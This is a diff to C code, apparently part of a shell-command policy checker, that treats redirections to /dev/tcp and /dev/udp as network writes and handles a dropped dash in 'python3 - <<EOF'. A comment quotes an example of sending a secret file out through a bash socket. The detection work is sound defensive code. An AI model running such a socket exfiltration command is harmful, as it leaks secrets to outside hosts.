@@ -731,6 +731,20 @@ static void visit_command(struct walk *wk, TSNode n)
         } while (ts_tree_cursor_goto_next_sibling(&cur));
     }
     ts_tree_cursor_delete(&cur);
+    size_t end = ts_node_end_byte(n);
+    TSNode parent = ts_node_parent(n);
+    size_t dash =
+        ts_node_is_null(parent)
+            ? 0
+            : pol_dropped_dash(wk->text, end, ts_node_end_byte(parent));
+    if (dash != 0) { /* `python3 - <<EOF`: the tree drops the `-` */
+        struct pol_word w = {.value = dup_bytes("-", 1), .len = 1};
+        if (w.value == NULL)
+            wk->nomem = true;
+        else
+            add_word(wk, c, &w);
+        c->end = dash;
+    }
     bool outer = !ts_node_is_null(wk->stdin_body) &&
                  ts_node_eq(wk->stdin_body, n) &&
                  wk->stdin_kind != POL_STDIN_INHERITED;
@@ -807,7 +821,26 @@ static bool harmless_target(const struct pol_word *w)
                            strcmp(w->value, "/dev/stderr") == 0);
 }
 
-/* A file redirection that writes adds `>` TARGET. */
+/* Whether a read redirection from `w` may open a connection: bash opens
+ * /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT itself, whatever the
+ * operator, and the socket can be written through the fd (`exec
+ * 3</dev/tcp/h/p; cat secret >&3`). A dynamic target may be one unless
+ * its written start fixes another path (`./$f`, `src/$f`). */
+static bool network_target(const struct pol_word *w)
+{
+    static const char *const paths[] = {"/dev/tcp/", "/dev/udp/"};
+    const char *v = w->value;
+    size_t fixed = w->dynamic ? strcspn(v, "$`\"'\\*?[") : strlen(v);
+    for (size_t i = 0; i < 2; i++) {
+        size_t n = fixed < 9 ? fixed : 9;
+        if (strncmp(v, paths[i], n) == 0 && (w->dynamic || fixed >= 9))
+            return true;
+    }
+    return false;
+}
+
+/* A file redirection that writes (or reads from the network) adds `>`
+ * TARGET. */
 static void visit_file_redirect(struct walk *wk, TSNode n)
 {
     const char *op = NULL;
@@ -843,6 +876,7 @@ static void visit_file_redirect(struct walk *wk, TSNode n)
             digits = digits && target.value[i] >= '0' && target.value[i] <= '9';
         writes = target.dynamic || !(digits || strcmp(target.value, "-") == 0);
     }
+    writes = writes || network_target(&target);
     if (!writes || harmless_target(&target)) {
         free(target.value);
         return;
